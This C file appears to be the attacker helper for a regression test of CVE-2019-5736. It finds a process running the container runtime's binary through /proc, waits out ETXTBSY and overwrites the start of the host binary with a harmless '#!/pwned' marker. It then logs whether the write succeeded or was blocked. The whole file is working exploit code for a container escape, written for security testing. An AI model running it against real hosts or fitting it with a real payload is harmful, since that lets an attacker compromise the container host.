/* The attacker of cve_2019_5736.bats (CVE-2019-5736), run inside a container:
 * finds a process whose /proc/<pid>/exe is the runtime's binary, keeps an
 * O_PATH descriptor of it, waits until the file is no longer busy (ETXTBSY:
 * the runtime still runs it) and opens /proc/self/fd/N for writing to
 * overwrite the start of the file.
 *
 * Usage: attack evil|PID TIMEOUT_S RESULT_FILE
 *   evil: target the processes started by `#!/proc/self/exe` in /bin/evil
 *         (cmdline "/proc/self/exe\0/bin/evil\0...": on a shared pid
 *         namespace nothing else is ever touched);
 *   PID:  target that pid (e.g. 1, the container's created init), as soon as
 *         its exe can be opened (a non-dumpable process's can't, without
 *         CAP_SYS_PTRACE).
 * Appends to RESULT_FILE: "GOT <exe link>", then one of "OVERWRITTEN",
 * "BLOCKED open: <error>", "BLOCKED write: <error>", or "TIMEOUT". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char *result;

static void report(const char *fmt, ...) {
  char line[512];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(line, sizeof line - 1, fmt, ap);
  va_end(ap);
  if (n < 0 || n > (int)sizeof line - 2)
    n = (int)sizeof line - 2;
  line[n++] = '\n';
  int fd = open(result, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC, 0644);
  if (fd >= 0) {
    if (write(fd, line, (size_t)n) < 0) {
    }
    close(fd);
  }
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int is_evil(int pid) {
  static const char want[] = "/proc/self/exe\0/bin/evil";
  char path[64], buf[sizeof want];
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0)
    return 0;
  ssize_t n = read(fd, buf, sizeof buf);
  close(fd);
  return n == (ssize_t)sizeof want && memcmp(buf, want, sizeof want) == 0;
}

static int open_exe(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  return open(path, O_PATH | O_CLOEXEC);
}

/* An O_PATH fd of the exe of the first /bin/evil process in /proc, or -1. */
static int scan(void) {
  DIR *d = opendir("/proc");
  if (d == NULL)
    return -1;
  struct dirent *e;
  int fd = -1, self = getpid();
  while ((e = readdir(d)) != NULL) {
    int pid = atoi(e->d_name);
    if (pid <= 0 || pid == self || !is_evil(pid))
      continue;
    fd = open_exe(pid);
    if (fd >= 0)
      break;
  }
  closedir(d);
  return fd;
}

int main(int argc, char **argv) {
  if (argc != 4)
    return 2;
  double deadline = now() + atof(argv[2]);
  result = argv[3];
  int target = strcmp(argv[1], "evil") == 0 ? 0 : atoi(argv[1]);
  int exe = -1;
  report("READY");
  while (exe < 0) {
    if (now() > deadline) {
      report("TIMEOUT");
      return 3;
    }
    exe = target > 0 ? open_exe(target) : scan();
    if (exe < 0 && target > 0)
      sched_yield(); /* the target may live for a millisecond only */
  }
  char self[64], link[256] = "";
  snprintf(self, sizeof self, "/proc/self/fd/%d", exe);
  ssize_t len = readlink(self, link, sizeof link - 1);
  link[len > 0 ? len : 0] = '\0';
  report("GOT %s", link);
  for (;;) {
    int w = open(self, O_WRONLY | O_CLOEXEC);
    if (w < 0 && errno == ETXTBSY && now() < deadline) {
      usleep(500);
      continue;
    }
    if (w < 0) {
      report("BLOCKED open: %s", strerror(errno));
      return 1;
    }
    if (write(w, "#!/pwned\n", 9) != 9) {
      report("BLOCKED write: %s", strerror(errno));
      return 1;
    }
    report("OVERWRITTEN");
    return 0;
  }
}
